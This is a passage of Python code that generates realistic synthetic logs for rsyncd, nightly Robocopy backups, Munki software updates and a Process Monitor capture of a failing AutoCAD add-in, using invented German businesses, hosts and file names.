    SITES = ["baeckerei-mueller.de", "zahnarzt-koch.de", "weingut-example.de", "sv-example-1908.de", "autohaus-example.com"]
    st = {"pid": g.num(1000, 9000)}

    def r(pid, msg, ev):
        L.t += dt.timedelta(milliseconds=g.num(0, 900))
        L.emit(f"{L.t:%Y/%m/%d %H:%M:%S} [{pid}] {msg}", ev)

    def fname(mod):
        f = g.c(FILES[mod])
        l, pkg, v = g.c([("o", "openssl", "3.0.15-1~deb12u1"), ("c", "curl", "7.88.1-10+deb12u8"), ("n", "nginx", "1.22.1-9+deb12u1"), ("libs", "libssh", "0.10.6-0+deb12u1")])
        return f.format(site=g.c(SITES), img=g.c(["IMG_", "DSC0", "header-", "team-"]) + str(g.num(1000, 9999)), w=g.c([300, 768, 1024]), h=g.c([200, 512, 683]),
                        plugin=g.c(["woocommerce", "contact-form-7", "wordfence", "yoast-seo"]), h2=g.hx(2), h38=g.hx(38), db=g.c(["shop", "crm", "wp_main"]),
                        bin=g.num(100, 999), l=l, pkg=pkg, v=v)

    def session():
        host, ip, mod, user = g.c(CLIENTS)
        pid = g.num(10000, 60000)
        r(pid, f"connect from {host} ({ip})", "connect_from")
        push = mod != "mirror"
        r(pid, f"rsync allowed access on module {mod} from {host} ({ip})", "allowed_access")
        if push:
            r(pid, f"rsync to {mod}/{user}/ from {user}@{host} ({ip})", "rsync_to")
        else:
            r(pid, f"rsync on {mod}/debian/ from {host} ({ip})", "rsync_on")
        total = 0
        for _ in range(g.r.choice([0, 2, 5, 9, 14, 25])):
            f = fname(mod)
            n = g.num(200, 90000000 if mod == "dbdumps" else 9000000)
            total += n
            L.t += dt.timedelta(milliseconds=g.num(0, 4000))
            if push:
                r(pid, f"recv {host} [{ip}] {mod} ({user}) {user}/{f} {n}", "transfer_line")
            else:
                r(pid, f"send {host} [{ip}] {mod} () {f} {n}", "transfer_line")
            if g.r.random() < 0.02 and push:
                r(pid, f"rsync: [receiver] mkstemp \"/srv/rsync/{mod}/{user}/{f.rsplit('/', 1)[0]}/.{f.rsplit('/', 1)[1]}.{g.alnum(6, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}\" (in {mod}) failed: Permission denied (13)", "mkstemp_failed")
        rr = g.r.random()
        if rr < 0.82:
            if push:
                r(pid, f"sent {g.num(100, 90000)} bytes  received {total + g.num(1000, 900000)} bytes  total size {g.num(10 ** 9, 10 ** 12)}", "sent_received")
            else:
                r(pid, f"sent {total + g.num(1000, 900000)} bytes  received {g.num(100, 90000)} bytes  total size {g.num(10 ** 10, 10 ** 12)}", "sent_received")
        elif rr < 0.9:
            r(pid, f"rsync: [{'receiver' if push else 'sender'}] read error: Connection reset by peer (104)", "read_error")
            r(pid, f"rsync error: error in socket IO (code 10) at io.c(806) [{'receiver' if push else 'sender'}=3.2.7]", "rsync_error_code")
        elif rr < 0.95:
            r(pid, f"rsync error: timeout in data send/receive (code 30) at io.c(197) [{'receiver' if push else 'sender'}=3.2.7]", "rsync_error_code")
        elif push:
            r(pid, f"rsync: [generator] failed to set times on \"/srv/rsync/{mod}/{user}/.\" (in {mod}): Operation not permitted (1)", "failed_set_times")
            r(pid, f"sent {g.num(100, 90000)} bytes  received {total + g.num(1000, 900000)} bytes  total size {g.num(10 ** 9, 10 ** 12)}", "sent_received")
            r(pid, "rsync error: some files/attrs were not transferred (see previous errors) (code 23) at main.c(1338) [generator=3.2.7]", "rsync_error_code")
        else:
            r(pid, f"sent {total + g.num(1000, 900000)} bytes  received {g.num(100, 90000)} bytes  total size {g.num(10 ** 10, 10 ** 12)}", "sent_received")

    def scanner():
        pid = g.num(10000, 60000)
        ip = g.ip("pub")
        if g.r.random() < 0.6:
            r(pid, f"name lookup failed for {ip}: Name or service not known", "name_lookup_failed")
            r(pid, f"connect from UNKNOWN ({ip})", "connect_from")
        else:
            r(pid, f"connect from {g.c(['scan', 'census', 'probe'])}-{g.num(1, 99)}.{g.c(['shodan.io', 'censys-scanner.com', 'internet-measurement.com'])} ({ip})", "connect_from")
        k = g.r.random()
        if k < 0.4:
            r(pid, f"unknown module '{g.c(['backup', 'data', 'www', 'home', 'root'])}' tried from {'UNKNOWN'} ({ip})", "unknown_module")
        elif k < 0.7:
            r(pid, f"auth failed on module backups from UNKNOWN ({ip}): {g.c(['password mismatch', 'unauthorized user'])}", "auth_failed")
        elif k < 0.85:
            r(pid, f"rsync denied on module backups from UNKNOWN ({ip})", "rsync_denied")
        else:
            r(pid, f"rsync: connection unexpectedly closed (0 bytes received so far) [Receiver]", "connection_closed")
            r(pid, "rsync error: error in rsync protocol data stream (code 12) at io.c(232) [Receiver=3.2.7]", "rsync_error_code")

    def readonly():
        host, ip, mod, user = CLIENTS[-1]
        pid = g.num(10000, 60000)
        r(pid, f"connect from {host} ({ip})", "connect_from")
        r(pid, f"rsync allowed access on module mirror from {host} ({ip})", "allowed_access")
        r(pid, "ERROR: module is read only", "module_read_only")
        r(pid, "rsync error: syntax or usage error (code 1) at main.c(1182) [Receiver=3.2.7]", "rsync_error_code")

    def vanished():
        host, ip, mod, user = g.c(CLIENTS[:4])
        pid = g.num(10000, 60000)
        r(pid, f"file has vanished: \"/srv/rsync/{mod}/{user}/{fname(mod)}\" (in {mod})", "file_vanished")

    def restart():
        st["pid"] = g.num(1000, 9000)
        r(st["pid"], "rsyncd version 3.2.7 starting, listening on port 873", "daemon_starting")

    restart()
    ev = [(60, session), (25, scanner), (2, readonly), (3, vanished), (0.2, restart)]
    return L.run(slowed(L, ev, 70), None)


# 17 --------------------------------------------------------------- Robocopy (Windows Server 2022) run every night by a scheduled task of an architects' office that mirrors four shares to a
#   NAS, all jobs appending to one log (/MIR /LOG+:D:\Logs\robocopy-nightly.log /NP /R:2 /W:5 /FFT): per job the banner box, "  Started : Tuesday, December 1,
#   2026 10:00:00 PM", source, destination and options, then the directories and files it copied or purged (tab-separated columns: the class such as "New
#   File", "Newer" or "*EXTRA File", the size, the name; directories with their file count and full path), errors with the system's message and the retry
#   lines, the summary table and "   Ended : ..."; only the Started, Ended and error lines write a time (local time, UTC on this server)
@checked
def log_robocopy(seed):
    L = Log("robocopy_job_log", seed, "full", True, False, start=dt.datetime(2026, 11, 28, 22, 0, 3, tzinfo=UTC))
    g = L.g
    JOBS = [("D:\\Shares\\Projekte\\", "\\\\nas01\\backup$\\Projekte\\"), ("D:\\Shares\\Buchhaltung\\", "\\\\nas01\\backup$\\Buchhaltung\\"),
            ("D:\\Shares\\Scans\\", "\\\\nas01\\backup$\\Scans\\"), ("D:\\Users\\", "\\\\nas01\\backup$\\Users\\")]
    PROJ = ["2024-017 Kita Sonnenschein", "2025-003 Wohnanlage Lindenhof", "2025-021 Umbau Rathaus", "2026-002 EFH Baumann", "2026-009 Gewerbehalle Nord"]
    SUB = ["Pläne\\DWG", "Pläne\\PDF", "Fotos", "Korrespondenz", "Ausschreibung", "Statik", "Renderings"]
    EXT = [".dwg", ".pdf", ".jpg", ".docx", ".xlsx", ".ifc", ".pln", ".bak", ".msg"]

    def out(text, ev, lv=None):
        L.emit(text, ev, lv)

    def stamp(t):
        return f"{t:%A, %B} {t.day}, {t.year} {t.hour % 12 or 12}:{t:%M:%S} {'AM' if t.hour < 12 else 'PM'}"

    def size(n):
        if n < 1024 * 1024:
            return str(n)
        for unit, div in [("g", 1024 ** 3), ("m", 1024 ** 2)]:
            if n >= div:
                return f"{n / div:.1f} {unit}"

    def job(src, dst):
        out("", "blank")
        out("-" * 79, "rule79")
        out("   ROBOCOPY     ::     Robust File Copy for Windows                              ", "banner_title")
        out("-" * 79, "rule79")
        out("", "blank")
        L.tick(1)
        start = L.t
        out(f"  Started : {stamp(L.t)}", "started", None)
        out(f"   Source : {src}", "source")
        out(f"     Dest : {dst}", "dest")
        out("", "blank")
        out("    Files : *.*", "files_filter")
        out("\t    ", "blank")
        out("  Options : *.* /FFT /S /E /DCOPY:DA /COPY:DAT /PURGE /MIR /NP /R:2 /W:5 ", "options")
        out("", "blank")
        out("-" * 78, "rule78")
        out("", "blank")
        copied = failed = extras = 0
        bytes_c = 0
        for _ in range(g.num(2, 9)):
            d = src + g.c(PROJ if "Projekte" in src else ["2026\\11", "2026\\12", "Rechnungen\\2026", "Lohn", "Scanner-Eingang", "mkoch\\Desktop", "sweber\\Documents"]) + "\\" + (g.c(SUB) + "\\" if "Projekte" in src else "")
            n = g.num(1, 60)
            new = g.r.random() < 0.15
            if new:
                out(f"\t  New Dir  {n:>10}\t{d}", "dir_line")
            else:
                out(f"\t{n:>19}\t{d}", "dir_line")
            for _ in range(g.num(0, 8)):
                L.t += dt.timedelta(milliseconds=g.num(10, 30000))
                cls = g.c(["New File  ", "New File  ", "Newer     ", "Newer     ", "*EXTRA File", "Older     "])
                fn = g.c(["Grundriss_EG", "Ansicht_Nord", "Protokoll_Baubesprechung", "Rechnung", "Angebot", "Scan", "Foto", "LV_Rohbau"]) + f"_{g.num(1, 99):02d}" + g.c(EXT)
                sz = int(10 ** g.r.uniform(2.5, 8.7))
                if cls.startswith("*EXTRA"):
                    extras += 1
                    out(f"\t{cls} \t\t{size(sz):>8}\t{fn}", "file_line")
                    continue
                out(f"\t    {cls}\t\t{size(sz):>8}\t{fn}", "file_line")
                if g.r.random() < 0.02:
                    locked(d + fn)
                    failed += 1
                else:
                    copied += 1
                    bytes_c += sz
            if g.r.random() < 0.05:
                L.t += dt.timedelta(seconds=1)
                out(f"{L.t:%Y/%m/%d %H:%M:%S} ERROR 5 (0x00000005) Copying NTFS Security to Destination Directory {dst}{d[len(src):]}", "error_ntfs_security", "ERROR")
                out("Access is denied.", "error_system_message", "ERROR")
                out("", "blank")
        out("", "blank")
        out("-" * 78, "rule78")
        out("", "blank")
        tot_d = g.num(40, 900)
        tot_f = g.num(2000, 90000)
        out("               Total    Copied   Skipped  Mismatch    FAILED    Extras", "summary_header")
        out(f"    Dirs : {tot_d:>9} {g.num(0, 9):>9} {tot_d - 3:>9} {0:>9} {0:>9} {g.num(0, 3):>9}", "summary_dirs")
        out(f"   Files : {tot_f:>9} {copied:>9} {tot_f - copied - failed:>9} {0:>9} {failed:>9} {extras:>9}", "summary_files")
        tb = g.num(10 ** 10, 9 * 10 ** 11)
        out(f"   Bytes : {size(tb):>9} {size(bytes_c) if bytes_c else '0':>9} {size(tb - bytes_c):>9} {0:>9} {size(g.num(10 ** 6, 9 * 10 ** 8)) if failed else '0':>9} {size(g.num(0, 9 * 10 ** 7)) if extras else '0':>9}", "summary_bytes")
        el = L.t - start + dt.timedelta(seconds=g.num(20, 900))
        L.t = start + el
        hms = lambda s: f"{int(s) // 3600}:{int(s) % 3600 // 60:02d}:{int(s) % 60:02d}"
        out(f"   Times : {hms(el.total_seconds()):>9} {hms(el.total_seconds() * 0.7):>9} {'':>9} {'':>9} {hms(failed * 15):>9} {hms(g.num(0, 9)):>9}", "summary_times")
        out("", "blank")
        out("", "blank")
        sp = g.num(10 ** 6, 3 * 10 ** 8)
        out(f"   Speed : {sp:>21,} Bytes/sec.", "speed_bytes")
        out(f"   Speed : {sp * 60 / 1048576:>20.3f} MegaBytes/min.", "speed_mb")
        out(f"   Ended : {stamp(L.t)}", "ended")
        out("", "blank")

    def locked(path):
        for attempt in range(3):
            L.t += dt.timedelta(seconds=5 if attempt else 1)
            out(f"{L.t:%Y/%m/%d %H:%M:%S} ERROR 32 (0x00000020) Copying File {path}", "error_copying_file", "ERROR")
            out("The process cannot access the file because it is being used by another process.", "error_system_message", "ERROR")
            if attempt < 2:
                out("Waiting 5 seconds... Retrying...", "waiting_retrying")
        out("ERROR: RETRY LIMIT EXCEEDED.", "retry_limit_exceeded", "ERROR")
        out("", "blank")

    night = 0
    while len(L.rows) < N_LINES:
        for src, dst in JOBS:
            job(src, dst)
        night += 1
        L.t = dt.datetime(2026, 11, 28, 22, 0, 3, tzinfo=UTC) + dt.timedelta(days=night, seconds=g.num(0, 40))
    del L.rows[N_LINES:]
    return carry_time(L, lambda r: r[1] in ("started", "ended", "error_copying_file", "error_ntfs_security"))


# 18 --------------------------------------------------------------- Munki 6.6 on a design studio's MacBook, /Library/Managed Installs/Logs/ManagedSoftwareUpdate.log: "Dec 01 2026 10:00:00 +0000
#   message" (Munki's own stamp with the year and offset); the hourly background runs and a user's checks from Managed Software Center: preflight, the
#   manifest, the check of each manifest item with Munki's indented detail lines, downloads, the list of what will be installed, the installs with
#   macOS installer's "installer:" lines and progress, removals, WARNING and ERROR lines when the repository is out of reach or an install fails
@checked
def log_munki(seed):
    L = Log("munki_managedsoftwareupdate", seed, "full", True, False, start=dt.datetime(2026, 11, 30, 8, 3, 12, tzinfo=UTC))
    g = L.g
    ITEMS = {"GoogleChrome": ["131.0.6778.70", "131.0.6778.86", "131.0.6778.109"], "Firefox": ["133.0", "133.0.3"], "Zoom": ["6.2.11.43613", "6.3.0.44805"],
             "MicrosoftTeams": ["24295.605.3225.8804", "24335.204.3312.1239"], "Slack": ["4.41.97", "4.41.105"], "Figma": ["124.6.5", "124.7.4"],
             "AdobeCreativeCloud": ["6.4.0.361"], "1Password": ["8.10.54", "8.10.56"], "Sophos": ["10.4.1"], "Rectangle": ["0.84", "0.85"], "VLC": ["3.0.21"],
             "Sketch": ["101.3", "101.5"], "MicrosoftOffice": ["16.91.24111020"], "Miro": ["0.9.46"]}
    st = {"inst": {k: g.c(v[:-1] or v) for k, v in ITEMS.items()}, "n": 0}

    def m(msg, ev, lv=None):
        L.t += dt.timedelta(milliseconds=g.num(5, 900))
        L.emit(f"{L.t:%b %d %Y %H:%M:%S} +0000 {msg}", ev, lv)

    def check_item(name, kind="install"):
        m(f"* Processing manifest item {name} for {kind}", "processing_item")
        latest = ITEMS[name][-1]
        m(f"    Looking for detail for: {name}, version latest...", "looking_for_detail")
        m(f"    Considering {len(ITEMS[name]) + g.num(0, 3)} items with name {name} from catalog production", "considering_items")
        m(f"    Considering item {name}, version {latest} from catalog production", "considering_item")
        m(f"    Found {name}, version {latest} in catalog production", "found_in_catalog")
        if st["inst"][name] == latest or g.r.random() < 0.5:
            m(f"    {name} version {latest} (or newer) is already installed.", "already_installed")
            return None
        m(f"    Need to install {name}", "need_to_install")
        if g.r.random() < 0.08:
            m(f"WARNING: Download of {name} failed: Error 404: Not Found", "download_failed", "WARNING")
            return None
        m(f"    Downloading {name}-{latest}.{g.c(['dmg', 'pkg'])} from https://munki.studio.example/repo/pkgs/apps/{name}/{name}-{latest}.dmg", "downloading")
        return name

    def run(kind="auto"):
        st["n"] += 1
        m(f"### Starting managedsoftwareupdate run: {kind} ###", "starting_run")
        m("Performing preflight tasks...", "preflight")
        if g.r.random() < 0.1:
            m("ERROR: Could not retrieve managed install primary manifest.", "no_primary_manifest", "ERROR")
            m("Performing postflight tasks...", "postflight")
            m("### Finished managedsoftwareupdate run ###", "finished_run")
            return
        m("### Beginning managed software check ###", "beginning_check")
        m("Munki version: 6.6.4.4822", "munki_version")
        m("macOS version: 15.1.1 on arm64", "macos_version")
        m("Getting manifest MB-DESIGN-07...", "getting_manifest")
        m("Getting catalog production...", "getting_catalog")
        m("**Checking for installs**", "checking_installs")
        todo = []
        for name in g.r.sample(sorted(ITEMS), g.num(5, 10)):
            x = check_item(name)
            if x:
                todo.append(x)
        m("**Checking for removals**", "checking_removals")
        if g.r.random() < 0.2:
            m("* Processing manifest item Miro for removal", "processing_item")
            m("    Removal of Miro added to ManagedInstaller tasks.", "removal_added")
        m("**Checking for managed updates**", "checking_updates")
        m("**Checking for optional installs**", "checking_optional")
        for name in g.r.sample(["Figma", "Sketch", "VLC", "Rectangle"], g.num(0, 2)):
            m(f"* Processing manifest item {name} for optional install", "processing_item")
            m(f"    Considering item {name}, version {ITEMS[name][-1]} from catalog production", "considering_item")
        if todo:
            m("The following items will be installed or upgraded:", "following_items")
            for name in todo:
                m(f"    + {name}-{ITEMS[name][-1]}", "plus_item")
                m(f"        {g.c(['Web browser', 'Video conferencing', 'Team chat', 'Design tool', 'Password manager', 'Window manager'])}", "item_description")
        m("###    End managed software check    ###", "end_check")
        for i, name in enumerate(todo, 1):
            L.tick(20)
            m(f"Installing {name} ({i} of {len(todo)})...", "installing")
            if g.r.random() < 0.5:
                m(f"Mounting disk image {name}-{ITEMS[name][-1]}.dmg", "mounting")
                m(f"Copying {name}.app to /Applications/{name}.app", "copying_app")
                m("The software was successfully installed.", "successfully_installed")
            else:
                m(f"installer: Package name is {name}", "installer_package_name")
                m("installer: Installing at base path /", "installer_base_path")
                for ph in ["Preparing for installation…", "Preparing the disk…", f"Preparing {name}…", "Waiting for other installations to complete…", "Configuring the installation…"]:
                    m(f"installer:PHASE:{ph}", "installer_phase")
                for _ in range(g.num(2, 6)):
                    m(f"installer:%{g.r.uniform(1, 99):.6f}", "installer_percent")
                m("installer:STATUS:Running package scripts…", "installer_status")
                if g.r.random() < 0.1:
                    m("installer: The install failed. (The Installer encountered an error that caused the installation to fail. Contact the software manufacturer for assistance. An error occurred while running scripts from the package “" + name + ".pkg”.)", "installer_failed")
                    m(f"ERROR: Install of {name}-{ITEMS[name][-1]} failed with return code 1", "install_failed", "ERROR")
                    continue
                m("installer: The install was successful.", "installer_successful")
            m(f"Install of {name}-{ITEMS[name][-1]}: SUCCESSFUL", "install_successful")
            st["inst"][name] = ITEMS[name][-1]
        m("Performing postflight tasks...", "postflight")
        m("### Finished managedsoftwareupdate run ###", "finished_run")

    def offline():
        m("### Starting managedsoftwareupdate run: auto ###", "starting_run")
        m("Performing preflight tasks...", "preflight")
        m("WARNING: Could not connect to https://munki.studio.example/repo: Could not resolve host: munki.studio.example", "warning_could_not_connect", "WARNING")
        m("ERROR: Could not retrieve managed install primary manifest.", "no_primary_manifest", "ERROR")
        m("Performing postflight tasks...", "postflight")
        m("### Finished managedsoftwareupdate run ###", "finished_run")

    while len(L.rows) < N_LINES:
        L.t += dt.timedelta(minutes=g.num(50, 70))
        if g.r.random() < 0.08:
            offline()
        else:
            run(g.c(["auto", "auto", "auto", "checkandinstallatstartup", "manualcheck"]))
    del L.rows[N_LINES:]
    return L


# 19 --------------------------------------------------------------- Sysinternals Process Monitor 4.01 capture on an engineer's Windows 11 workstation, taken to find out why a CAD add-in fails to load,
#   saved as CSV with the default columns: a UTF-8 byte order mark, the header row, then "Time of Day","Process Name","PID","Operation","Path","Result","Detail"
#   with the time of day in 12-hour form with seven decimals ("10:52:43.5489418 AM"); file, registry, network, process and thread operations of the CAD
#   program and of everything else running (Explorer, Defender, the search indexer, OneDrive, Chrome, svchost), Process Start records whose Environment
#   part carries on over many physical lines inside the quoted Detail field, Process Profiling rows every second
@checked
def log_procmon(seed):
    L = Log("procmon_csv_export", seed, "tod", False, True, start=dt.datetime(2026, 12, 3, 10, 52, 43, 548941, tzinfo=UTC))
    g = L.g
    PROCS = {"acad.exe": g.num(9000, 20000), "explorer.exe": g.num(5000, 9000), "MsMpEng.exe": g.num(3000, 5000), "SearchIndexer.exe": g.num(6000, 9000),
             "OneDrive.exe": g.num(10000, 14000), "chrome.exe": g.num(14000, 20000), "svchost.exe": g.num(1000, 3000), "Teams.exe": g.num(20000, 25000), "System": 4}
    USERDIR = "C:\\Users\\t.hofer"
    ADDIN = "C:\\Program Files\\Autodesk\\ApplicationPlugins\\StructKit.bundle\\Contents\\Win64"
    st = {"tid": g.num(1000, 30000), "hnd": 0, "prof": L.t}

    def tod(t):
        return f"{t.hour % 12 or 12}:{t:%M:%S}.{t.microsecond:06d}{g.num(0, 9)} {'AM' if t.hour < 12 else 'PM'}"

    def csvq(s):
        return '"' + str(s).replace('"', '""') + '"'

    def row(proc, op, path, result, detail, ev):
        L.t += dt.timedelta(microseconds=g.num(1, 900))
        if (L.t - st["prof"]).total_seconds() >= 1:
            st["prof"] = L.t
            for p in sorted(PROCS):
                if p != "System":
                    L.emit(",".join(csvq(x) for x in [tod(L.t), p, PROCS[p], "Process Profiling", "", "SUCCESS",
                                                      f"User Time: {g.r.uniform(0, 900):.7f} seconds, Kernel Time: {g.r.uniform(0, 300):.7f} seconds, Private Bytes: {g.num(10 ** 6, 9 * 10 ** 8):,}, Working Set: {g.num(10 ** 6, 9 * 10 ** 8):,}"]),
                           "Process Profiling", None, p)
        L.emit(",".join(csvq(x) for x in [tod(L.t), proc, PROCS[proc], op, path, result, detail]), ev, None, proc)

    def times():
        t = L.t - dt.timedelta(days=g.num(0, 400), seconds=g.num(0, 86400))
        return f"{t.month}/{t.day}/{t.year} {t.hour % 12 or 12}:{t:%M:%S} {'AM' if t.hour < 12 else 'PM'}"

    def file_ops(proc, path, ok=True):
        if ok:
            row(proc, "CreateFile", path, "SUCCESS", f"Desired Access: {g.c(['Generic Read', 'Read Attributes', 'Generic Read/Write', 'Read Data/List Directory, Synchronize'])}, Disposition: Open, Options: {g.c(['Synchronous IO Non-Alert, Non-Directory File', 'Open Reparse Point', 'Non-Directory File, Open Requiring Oplock'])}, Attributes: {g.c(['n/a', 'N'])}, ShareMode: {g.c(['Read', 'Read, Write', 'Read, Write, Delete'])}, AllocationSize: n/a, OpenResult: Opened", "CreateFile:opened")
            r = g.r.random()
            if r < 0.4:
                row(proc, "QueryBasicInformationFile", path, "SUCCESS", f"CreationTime: {times()}, LastAccessTime: {times()}, LastWriteTime: {times()}, ChangeTime: {times()}, FileAttributes: {g.c(['A', 'N', 'RA', 'ANCI'])}", "QueryBasicInformationFile")
            elif r < 0.7:
                n = g.num(100, 9 * 10 ** 7)
                row(proc, "QueryStandardInformationFile", path, "SUCCESS", f"AllocationSize: {(n // 4096 + 1) * 4096:,}, EndOfFile: {n:,}, NumberOfLinks: 1, DeletePending: False, Directory: False", "QueryStandardInformationFile")
            for _ in range(g.num(0, 4)):
                if g.r.random() < 0.7:
                    row(proc, "ReadFile", path, g.c(["SUCCESS", "SUCCESS", "SUCCESS", "END OF FILE"]), f"Offset: {g.num(0, 9 * 10 ** 6):,}, Length: {g.c([4096, 8192, 16384, 65536, 512]):,}, Priority: Normal", "ReadFile")
                else:
                    row(proc, "ReadFile", path, "SUCCESS", f"Offset: {g.num(0, 900) * 4096:,}, Length: {g.c([4096, 32768, 65536]):,}, I/O Flags: Non-cached, Paging I/O, Synchronous Paging I/O, Priority: Normal", "ReadFile:paging")
            row(proc, "CloseFile", path, "SUCCESS", "", "CloseFile")
        else:
            row(proc, "CreateFile", path, g.c(["NAME NOT FOUND", "NAME NOT FOUND", "PATH NOT FOUND", "ACCESS DENIED"]), f"Desired Access: {g.c(['Generic Read', 'Read Attributes'])}, Disposition: Open, Options: Synchronous IO Non-Alert, Non-Directory File, Attributes: n/a, ShareMode: Read, Write, Delete, AllocationSize: n/a", "CreateFile")

    def reg_ops(proc, key, value, ok=True):
        if g.r.random() < 0.6:
            row(proc, "RegOpenKey", key, "SUCCESS" if ok else "NAME NOT FOUND", "Desired Access: Read", "RegOpenKey")
        if ok:
            ty, data = g.c([("REG_SZ", "C:\\Program Files\\Autodesk\\AutoCAD 2025\\"), ("REG_DWORD", str(g.num(0, 1))), ("REG_SZ", "StructKit"), ("REG_EXPAND_SZ", "%SystemRoot%\\system32\\mscoree.dll"), ("REG_BINARY", " ".join(g.HX(2) for _ in range(8)))])
            row(proc, "RegQueryValue", key + "\\" + value, "SUCCESS", f"Type: {ty}, Length: {len(data) * 2 + 2 if ty != 'REG_DWORD' else 4}, Data: {data}", "RegQueryValue:data")
        else:
            row(proc, "RegQueryValue", key + "\\" + value, g.c(["NAME NOT FOUND", "BUFFER OVERFLOW"]), f"Length: {g.c([12, 144, 256, 520])}", "RegQueryValue:length")
        if g.r.random() < 0.3:
            if g.r.random() < 0.5:
                row(proc, "RegQueryKey", key, "SUCCESS", "Query: HandleTags, HandleTags: 0x0", "RegQueryKey:handletags")
            else:
                row(proc, "RegQueryKey", key, "SUCCESS", f"Query: Name, Name: {key.replace('HKLM', chr(92) + 'REGISTRY' + chr(92) + 'MACHINE').replace('HKCU', chr(92) + 'REGISTRY' + chr(92) + 'USER' + chr(92) + 'S-1-5-21-' + '3623811015-3361044348-30300820-1013')}", "RegQueryKey:name")
        row(proc, "RegCloseKey", key, "SUCCESS", "", "RegCloseKey")

    def acad():
        r = g.r.random()
        if r < 0.35:
            dll = g.c(["StructKit.dll", "StructKit.Core.dll", "Newtonsoft.Json.dll", "StructKit.resources.dll", "libiomp5md.dll", "vcruntime140_1.dll", "mkl_core.2.dll"])
            file_ops("acad.exe", g.c([ADDIN, "C:\\Program Files\\Autodesk\\AutoCAD 2025", "C:\\Windows\\System32", USERDIR + "\\AppData\\Roaming\\Autodesk\\ApplicationPlugins"]) + "\\" + dll,
                     ok=not dll.startswith(("libiomp", "mkl")) or g.r.random() < 0.2)
        elif r < 0.6:
            reg_ops("acad.exe", g.c(["HKLM\\SOFTWARE\\Autodesk\\AutoCAD\\R25.0\\ACAD-8101:409\\Applications\\StructKit", "HKCU\\Software\\Autodesk\\AutoCAD\\R25.0\\ACAD-8101:409\\Profiles\\<<Unnamed Profile>>\\General",
                                     "HKLM\\SOFTWARE\\Microsoft\\.NETFramework\\Policy\\Servicing", "HKLM\\SOFTWARE\\WOW6432Node\\StructKit\\License"]),
                    g.c(["LOADCTRLS", "LOADER", "DESCRIPTION", "InstallPath", "ACADLSPASDOC", "LicenseServer"]), ok=g.r.random() < 0.6)
        elif r < 0.75:
            row("acad.exe", "Load Image", g.c([ADDIN + "\\StructKit.dll", "C:\\Windows\\System32\\ucrtbase.dll", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clrjit.dll",
                                               "C:\\Windows\\System32\\WinTypes.dll"]), "SUCCESS", f"Image Base: 0x7ff{g.hx(9)}, Image Size: 0x{g.hx(6)}", "Load Image")
        elif r < 0.85:
            st["tid"] += g.num(1, 90)
            row("acad.exe", "Thread Create", "", "SUCCESS", f"Thread ID: {st['tid']}", "Thread Create")
        elif r < 0.92:
            row("acad.exe", "Thread Exit", "", "SUCCESS", f"Thread ID: {st['tid'] - g.num(0, 300)}, User Time: {g.r.uniform(0, 2):.7f}, Kernel Time: {g.r.uniform(0, 1):.7f}", "Thread Exit")
        else:
            row("acad.exe", "QueryDirectory", ADDIN + "\\*.dll", g.c(["SUCCESS", "NO MORE FILES"]), f"Filter: *.dll, 1: {g.c(['StructKit.dll', 'StructKit.Core.dll'])}", "QueryDirectory")

    def noise():
        p = g.c(["explorer.exe", "MsMpEng.exe", "SearchIndexer.exe", "OneDrive.exe", "chrome.exe", "svchost.exe", "Teams.exe", "System"])
        r = g.r.random()
        if p == "MsMpEng.exe" or (p == "SearchIndexer.exe" and r < 0.6):
            file_ops(p, g.c([USERDIR + "\\Documents\\Projekte\\Halle_Nord\\Tragwerk_" + str(g.num(1, 40)) + ".dwg", "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpenginedb.db",
                             USERDIR + "\\AppData\\Local\\Temp\\" + g.alnum(8) + ".tmp", "C:\\Windows\\System32\\drivers\\etc\\hosts"]))
        elif p in ("chrome.exe", "Teams.exe", "OneDrive.exe") and r < 0.5:
            op = g.c(["TCP Send", "TCP Receive", "TCP Receive", "UDP Send"])
            remote = g.c(["fra16s52-in-f14.1e100.net:https", "52.113.194.132:https", "20.42.65.92:https", "lb-140-82-114-26-iad.github.com:https", "162.125.66.18:https"])
            if op.startswith("UDP"):
                row(p, op, f"WS-HOFER-07.corp.example:{g.port()} -> 10.1.0.10:domain", "SUCCESS", f"Length: {g.num(30, 90)}, seqnum: 0, connid: 0", "UDP Send")
            else:
                row(p, op, f"WS-HOFER-07.corp.example:{g.port()} -> {remote}", "SUCCESS", f"Length: {g.num(31, 16384)}, startime: {g.num(10 ** 6, 9 * 10 ** 6)}, endtime: {g.num(10 ** 6, 9 * 10 ** 6)}, seqnum: 0, connid: 0", op)
        elif p == "System":
            f = g.c(["C:\\$LogFile", "C:\\$Mft", "C:\\Windows\\System32\\config\\SOFTWARE.LOG1", "C:\\pagefile.sys"])
            if g.r.random() < 0.8:
                row(p, "WriteFile", f, "SUCCESS", f"Offset: {g.num(0, 9 * 10 ** 8):,}, Length: {g.c([4096, 8192, 65536]):,}, I/O Flags: Non-cached, Paging I/O, Synchronous Paging I/O, Priority: Normal", "WriteFile:paging")
            else:
                row(p, "FlushBuffersFile", f, "SUCCESS", "", "FlushBuffersFile")
        elif r < 0.8:
            reg_ops(p, g.c(["HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FileExts\\.dwg", "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters",
                            "HKCU\\Software\\Microsoft\\OneDrive\\Accounts\\Business1", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\chrome.exe"]),
                    g.c(["OpenWithProgids", "Domain", "UserFolder", "DisableHeapLookaside", "UseFilter"]), ok=g.r.random() < 0.5)
        else:
            file_ops(p, g.c([USERDIR + "\\OneDrive - Ingenieurbuero\\Desktop\\desktop.ini", USERDIR + "\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Network\\Cookies-journal",
                             "C:\\Windows\\System32\\en-US\\KernelBase.dll.mui"]), ok=g.r.random() < 0.7)

    def start_proc():
        st["tid"] += g.num(1, 90)
        child = g.c([("conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"), ("chrome.exe", '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=de --num-raster-threads=4'),
                     ("AdskAccessServiceHost.exe", '"C:\\Program Files\\Autodesk\\AdODIS\\V1\\Access\\AdskAccessServiceHost.exe" --mode=check')])
        pid = g.num(20000, 40000)
        PROCS[child[0]] = pid
        L.t += dt.timedelta(microseconds=g.num(1, 900))
